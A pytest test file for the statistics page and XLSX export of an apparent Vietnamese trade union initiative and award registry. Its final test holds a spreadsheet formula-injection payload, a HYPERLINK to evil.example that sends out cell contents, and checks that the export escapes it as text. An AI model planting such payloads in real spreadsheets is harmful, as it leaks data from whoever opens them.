"""The statistics page: the page tree rules; figures by year, level and provincial federation
equal to ``registry_figures`` for the same unit and year; charts drawn as SVG with the same
numbers in a table; the year selector with bad input ignored; the XLSX download; nothing of
initiatives not yet recognised or of people; and a constant number of queries whatever the
number of provinces and years."""

import datetime
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import Page

from accounts.formatting import format_number, format_vnd
from accounts.spreadsheets import XLSX_CONTENT_TYPE
from awards.enums import BenefitStatus, RoundStatus
from awards.services.benefits import benefit_claim, benefit_verify
from emulation.rollup import figures_rebuild
from emulation.statistics import registry_figures
from initiatives.enums import InitiativeStatus
from initiatives.models import Initiative
from site_cms.models import HomePage, StatisticsPage
from site_cms.selectors.statistics import (
    Figures,
    figures_by_level,
    figures_by_province,
    figures_by_year,
    figures_from_registry,
    page_figures,
)
from tests.factories import make_initiative, make_unit, unit_officer
from tests.factories.awards import make_round_in, member_of
from tests.factories.pages import home_page, make_news_index, make_statistics_page
from tests.site_cms.test_honour_board import issue, revoke
from unions.enums import UnitKind
from unions.models import Unit

TODAY = timezone.localdate()
Y = TODAY.year


def submitted_in(initiative: Initiative, year: int) -> Initiative:
    """Move the first submission of ``initiative`` into ``year``."""
    moment = timezone.make_aware(datetime.datetime(year, 6, 15, 9, 0))
    Initiative.objects.filter(pk=initiative.pk).update(submitted_at=moment)
    return Initiative.objects.get(pk=initiative.pk)


def verified_benefit(initiative: Initiative, year: int, amount: int, status=BenefitStatus.VERIFIED):
    """A benefit claimed for ``year`` (the initiative applied since two years before this one)
    and verified with ``status`` (left unverified when None)."""
    Initiative.objects.filter(pk=initiative.pk).update(first_applied_on=datetime.date(Y - 2, 5, 1))
    initiative.refresh_from_db()
    record = benefit_claim(
        initiative=initiative, year=year, claimed_vnd=amount, actor=initiative.created_by
    )
    if status is not None:
        benefit_verify(
            record=record,
            actor=unit_officer(initiative.unit),
            status=status,
            method="Đối chiếu chứng từ.",
            verified_on=TODAY,
            verified_vnd=amount - 1_000_000 if status == BenefitStatus.ADJUSTED else None,
        )
    return record


@pytest.fixture
def registry(tree):
    """- a1x: a draft, a dossier submitted last year and refused, one recognised this year with
      50M verified (Y) and 20M adjusted (Y-1), a claim never verified, and a closed round
      recognising one dossier; a Giấy khen to two members (one revoked);
    - a1y: a dossier submitted two years ago, recognised, 7M verified (Y-2);
    - province_a: a Bằng khen last year;
    - b1x: a dossier accepted this year; province_b's emulation flag to b1x this year;
    - national: a Bằng khen to a member of a1x;
    - a provincial federation no longer active, without figures (left out)."""
    a1x, a1y, b1x = tree.grassroots_a1x, tree.grassroots_a1y, tree.grassroots_b1x
    make_initiative(a1x, member_of(a1x), InitiativeStatus.DRAFT)
    submitted_in(make_initiative(a1x, member_of(a1x), InitiativeStatus.REFUSED), Y - 1)
    recognised = make_initiative(
        a1x,
        member_of(a1x),
        InitiativeStatus.RECOGNISED,
        confidential_info="Công thức phối trộn bí mật.",
        title="Máy cắt vải tự động",
    )
    verified_benefit(recognised, Y, 50_000_000)
    verified_benefit(recognised, Y - 1, 21_000_000, BenefitStatus.ADJUSTED)
    verified_benefit(recognised, Y - 2, 900_000_000, None)
    make_round_in(RoundStatus.CLOSED, a1x, dossiers=1)
    old = submitted_in(make_initiative(a1y, member_of(a1y), InitiativeStatus.RECOGNISED), Y - 2)
    verified_benefit(old, Y - 2, 7_000_000)
    hidden = make_initiative(
        b1x, member_of(b1x), InitiativeStatus.ACCEPTED, title="Sáng kiến chưa được công nhận"
    )
    first, second = member_of(a1x), member_of(a1x)
    giay_khen = issue("giay-khen-co-so", a1x, persons=[first, second])
    revoke(giay_khen, giay_khen.recipients.get(user=second).certificate)
    issue(
        "bang-khen-tinh",
        tree.province_a,
        persons=[member_of(a1y)],
        decided_on=datetime.date(Y - 1, 5, 4),
    )
    issue("bang-khen-tinh", tree.province_a, persons=[member_of(a1y)], draft=True)
    issue("co-thi-dua-tinh", tree.province_b, units=[b1x])
    issue("bang-khen-tong-ld", tree.national, persons=[member_of(a1x)])
    ended = make_unit(tree.national, name="Liên đoàn Lao động tỉnh đã sáp nhập", code="SAP")
    Unit.objects.filter(pk=ended.pk).update(is_active=False)
    figures_rebuild()
    return {"page": make_statistics_page(), "hidden": hidden, "recognised": recognised}


def registry_of(unit=None, year=None) -> Figures:
    return figures_from_registry(registry_figures(unit=unit, year=year))


# --- page tree -------------------------------------------------------------------------------


def test_statistics_page_sits_only_under_the_home_page_once(db):
    assert StatisticsPage.allowed_parent_page_models() == [HomePage]
    assert StatisticsPage.allowed_subpage_models() == []
    assert StatisticsPage.can_create_at(home_page())
    assert not StatisticsPage.can_create_at(make_news_index())
    assert not StatisticsPage.can_create_at(Page.get_first_root_node())

    page = make_statistics_page()

    assert not StatisticsPage.can_create_at(home_page())
    assert not StatisticsPage.can_create_at(page)


# --- the figures equal the registry's --------------------------------------------------------


@pytest.mark.parametrize("year", [None, Y, Y - 1, Y - 2, Y - 5])
def test_figures_by_province_equal_registry_figures_of_each_province(registry, tree, year):
    rows = {row.unit.pk: row.figures for row in figures_by_province(year)}

    assert set(rows) == {tree.province_a.pk, tree.province_b.pk}
    for province in (tree.province_a, tree.province_b):
        assert rows[province.pk] == registry_of(province, year)


def test_figures_by_province_are_not_all_zero(registry, tree):
    rows = {row.unit.pk: row.figures for row in figures_by_province(None)}

    assert rows[tree.province_a.pk] == Figures(
        submitted=4, recognised=3, verified_benefit_vnd=77_000_000, awards=4
    )
    assert rows[tree.province_b.pk] == Figures(
        submitted=1, recognised=0, verified_benefit_vnd=0, awards=1
    )


def test_figures_by_year_equal_registry_figures_of_each_year(registry):
    rows = figures_by_year()

    assert [row.year for row in rows] == [Y, Y - 1, Y - 2]
    for row in rows:
        assert row.figures == registry_of(None, row.year)


def test_union_figures_and_levels_equal_registry_figures(registry):
    for year in (None, Y, Y - 1):
        figures = page_figures(str(year) if year else None)
        registry = registry_figures(year=year)
        assert figures.union == figures_from_registry(registry)
        recognised = registry["reviews"]["recognised_by_level_and_year"]
        levels = figures_by_level(year)
        assert [row.name for row in levels] == [
            "national",
            "provincial",
            "upper_direct",
            "grassroots",
        ]
        for row in levels:
            assert row.recognitions == sum(recognised[row.name].values())
        assert sum(row.awards for row in levels) == figures.union.awards


def test_awards_by_level_follow_the_issuer(registry):
    # Grassroots: the Giấy khen's two recipients (one revoked since) and the round's
    # initiative certificate, as the registry counts them.
    levels = {row.name: row.awards for row in figures_by_level(Y)}

    assert levels == {"national": 1, "provincial": 1, "upper_direct": 0, "grassroots": 3}


# --- the page ----------------------------------------------------------------------------------


def test_statistics_page_draws_svg_charts_with_tables_of_the_same_numbers(client, registry, tree):
    response = client.get(registry["page"].url)

    assert response.status_code == 200
    content = response.content.decode()
    province_a = registry_of(tree.province_a)
    charts = response.context["charts"]
    by_key = {chart.key: chart for section in charts.values() for chart in section}
    assert [tree.province_a.name, format_number(province_a.submitted)] in by_key[
        "chart-province-submitted"
    ].rows
    assert [tree.province_a.name, format_vnd(province_a.verified_benefit_vnd)] in by_key[
        "chart-province-benefit"
    ].rows
    assert [str(Y), format_number(registry_of(None, Y).awards)] in by_key["chart-year-awards"].rows
    for key, chart in by_key.items():
        assert f'<figure class="chart-figure" id="{key}">' in content
        assert f'<title id="{key}-title">' in content
        assert f'<desc id="{key}-desc">' in content
        assert chart.svg in content
        assert f"<caption>{chart.title}</caption>" in content
        for row in chart.rows:
            assert f'<th scope="row">{row[0]}</th>' in content
    assert content.count('<svg xmlns="http://www.w3.org/2000/svg" role="img"') == len(by_key)
    union = registry_of()
    assert f'<dd id="figure-submitted">{format_number(union.submitted)}</dd>' in content
    assert f'<dd id="figure-benefit">{format_vnd(union.verified_benefit_vnd)}</dd>' in content


def test_statistics_page_shows_the_year_asked_for(client, registry, tree):
    response = client.get(registry["page"].url, {"year": Y - 1})

    figures = response.context["figures"]
    assert figures.year == Y - 1
    assert figures.union == registry_of(None, Y - 1)
    rows = {row.unit.pk: row.figures for row in figures.by_province}
    assert rows[tree.province_a.pk] == registry_of(tree.province_a, Y - 1)
    content = response.content.decode()
    assert f'<option value="{Y - 1}" selected>' in content
    assert f"?year={Y - 1}" in response.context["xlsx_url"]


@pytest.mark.parametrize("year", ["xyz", "1999", "２０２６", "-1", "20261", " ", "2026.0"])
def test_statistics_page_ignores_a_bad_year(client, registry, year):
    response = client.get(registry["page"].url, {"year": year})

    assert response.status_code == 200
    figures = response.context["figures"]
    assert figures.year is None
    assert figures.union == registry_of()


def test_statistics_page_never_shows_what_is_not_public(client, registry):
    content = client.get(registry["page"].url).content.decode()

    assert registry["hidden"].title not in content
    assert registry["recognised"].confidential_info not in content
    assert "@example.vn" not in content


def test_statistics_page_without_figures_renders(client, db):
    page = make_statistics_page()

    response = client.get(page.url)

    assert response.status_code == 200
    assert response.context["figures"].years == []
    assert response.context["figures"].union == Figures()


# --- the workbook ------------------------------------------------------------------------------


def _workbook(response):
    return load_workbook(BytesIO(response.content))


def test_statistics_xlsx_holds_the_tables(client, registry, tree):
    url = registry["page"].url + "xlsx/"

    response = client.get(url)

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="thong-ke-tat-ca-cac-nam.xlsx"'
    workbook = _workbook(response)
    assert workbook.sheetnames == ["Tổng hợp", "Theo năm", "Theo cấp", "Theo tỉnh"]
    union = registry_of()
    assert [cell.value for cell in workbook["Tổng hợp"][2]][1:] == [
        union.submitted,
        union.recognised,
        union.verified_benefit_vnd,
        union.awards,
    ]
    years = {
        row[0]: list(row[1:]) for row in workbook["Theo năm"].iter_rows(min_row=2, values_only=True)
    }
    for year in (Y, Y - 1, Y - 2):
        figures = registry_of(None, year)
        assert years[year] == [
            figures.submitted,
            figures.recognised,
            figures.verified_benefit_vnd,
            figures.awards,
        ]
    provinces = {
        row[1]: list(row[2:])
        for row in workbook["Theo tỉnh"].iter_rows(min_row=2, values_only=True)
    }
    assert set(provinces) == {tree.province_a.code, tree.province_b.code}
    province_a = registry_of(tree.province_a)
    assert provinces[tree.province_a.code] == [
        province_a.submitted,
        province_a.recognised,
        province_a.verified_benefit_vnd,
        province_a.awards,
    ]
    levels = list(workbook["Theo cấp"].iter_rows(min_row=2, values_only=True))
    assert [row[2] for row in levels] == [row.awards for row in figures_by_level()]


def test_statistics_xlsx_of_a_year(client, registry, tree):
    response = client.get(registry["page"].url + "xlsx/", {"year": Y})

    assert response["Content-Disposition"] == f'attachment; filename="thong-ke-{Y}.xlsx"'
    workbook = _workbook(response)
    province_b = registry_of(tree.province_b, Y)
    rows = {
        row[1]: list(row[2:])
        for row in workbook["Theo tỉnh"].iter_rows(min_row=2, values_only=True)
    }
    assert rows[tree.province_b.code] == [
        province_b.submitted,
        province_b.recognised,
        province_b.verified_benefit_vnd,
        province_b.awards,
    ]


def test_statistics_xlsx_ignores_a_bad_year(client, registry):
    response = client.get(registry["page"].url + "xlsx/", {"year": "abc"})

    assert response.status_code == 200
    assert "thong-ke-tat-ca-cac-nam.xlsx" in response["Content-Disposition"]


# --- queries -----------------------------------------------------------------------------------


def _queries(client, url) -> int:
    with CaptureQueriesContext(connection) as context:
        response = client.get(url)
    assert response.status_code == 200
    return len(context.captured_queries)


def _province_with_figures(national, number: int) -> Unit:
    province = make_unit(national, kind=UnitKind.PROVINCIAL_FEDERATION)
    district = make_unit(province)
    grassroots = make_unit(district)
    initiative = make_initiative(grassroots, member_of(grassroots), InitiativeStatus.RECOGNISED)
    submitted_in(initiative, Y - number % 4)
    verified_benefit(initiative, Y - number % 3, 1_000_000 * (number + 1))
    issue("co-thi-dua-tinh", province, units=[grassroots])
    return province


def test_statistics_page_costs_the_same_queries_for_1_and_50_provinces(client, db, settings):
    settings.PUBLIC_PAGE_CACHE_SECONDS = 0
    national = make_unit(name="Tổng Liên đoàn Lao động Việt Nam", code="TLD")
    page = make_statistics_page()
    _province_with_figures(national, 0)
    figures_rebuild()
    one = _queries(client, page.url)
    one_xlsx = _queries(client, page.url + "xlsx/")
    for number in range(1, 50):
        _province_with_figures(national, number)
    figures_rebuild()
    assert len(figures_by_province()) == 50
    assert len(figures_by_year()) == 4

    assert _queries(client, page.url) == one
    assert _queries(client, page.url + f"?year={Y - 1}") == one
    assert _queries(client, page.url + "xlsx/") == one_xlsx


def test_a_federation_no_longer_active_is_listed_while_it_has_figures(registry, tree):
    Unit.objects.filter(pk=tree.province_b.pk).update(is_active=False)

    rows = {row.unit.pk: row.figures for row in figures_by_province(Y)}

    assert rows[tree.province_b.pk] == registry_of(tree.province_b, Y)
    assert tree.province_b.pk not in {row.unit.pk for row in figures_by_province(Y - 2)}


def test_statistics_xlsx_writes_a_hostile_unit_name_as_text(client, registry, tree):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
    Unit.objects.filter(pk=tree.province_a.pk).update(name=hostile)
    response = client.get(registry["page"].url + "xlsx/")
    sheet = _workbook(response)["Theo tỉnh"]
    names = {row[0].value: row[0].data_type for row in sheet.iter_rows(min_row=2)}
    assert names["'" + hostile] == "s"
    assert hostile not in names
